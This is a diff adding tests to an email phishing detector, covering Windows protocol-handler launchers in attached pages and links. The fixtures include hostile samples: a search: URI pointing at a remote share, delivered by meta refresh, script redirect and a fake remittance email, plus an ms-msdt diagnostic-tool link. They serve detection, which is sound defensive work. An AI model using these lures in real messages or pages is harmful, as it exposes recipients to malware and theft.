@@ -107,6 +107,49 @@ describe('reading an attached page', () => {
   });
 });
 
+describe('Windows protocol handlers', () => {
+  const share = String.raw`search:query=Invoice&crumb=location:\\203.0.113.7@80\Documents&displayname=Invoice`;
+
+  it('finds one an attached page opens, by meta refresh, script or link, and no word "Search:"', () => {
+    expect(read(`<meta http-equiv="refresh" content="0; url=${share}">`).launches).toEqual([share]);
+    expect(read(`<script>window.location.href = '${share}';</script>`).launches).toEqual([share]);
+    expect(read('<a href="ms-msdt:/id PCWDiagnostic /skip force">Fix</a>').launches).toEqual(['ms-msdt:/id']);
+    expect(
+      read('<p>Search: "invoices"</p><input placeholder="Search: name or number"><p>search:query=</p>')
+        .launches,
+    ).toEqual([]);
+  });
+
+  it('says so for a page and for a link in the message', async () => {
+    const found = (await engine.analyzeRaw(withPage(`<script>location.replace("${share}")</script>`)))
+      .analysis;
+    const launcher = found.indicators.find((i) => i.id === 'attachments.page_launcher');
+    expect(launcher?.explanation).toContain('run its search: protocol');
+    expect(launcher?.evidence).toEqual([`Remittance.html: ${share}`]);
+    const link = Buffer.from(
+      [
+        'From: Accounts <ap@supplier-pay.example>',
+        'To: alex@example.org',
+        'Subject: Remittance advice',
+        'MIME-Version: 1.0',
+        'Content-Type: text/html; charset=utf-8',
+        '',
+        `<p>Please see the <a href="${share.replace(/&/g, '&amp;')}">remittance advice</a>.</p>`,
+        '',
+      ].join('\r\n'),
+    );
+    const { analysis } = await engine.analyzeRaw(link);
+    expect(analysis.indicators.map((i) => i.id)).toContain('links.launcher_url');
+    expect(analysis.risk_score).toBeGreaterThanOrEqual(50);
+    // An ordinary page and link: neither.
+    const plain = await ids(
+      withPage('<p>Search: <a href="https://supplier-pay.example/search?q=x">here</a></p>'),
+    );
+    expect(plain).not.toContain('attachments.page_launcher');
+    expect(plain).not.toContain('links.launcher_url');
+  });
+});
+
 describe('an attached page in the analysis', () => {
   it('scores a voicemail page that sends a password to a chat bot as HIGH, naming the bot', async () => {
     const { analysis } = await engine.analyzeRaw(fixture('phishing-voicemail-page.eml'));
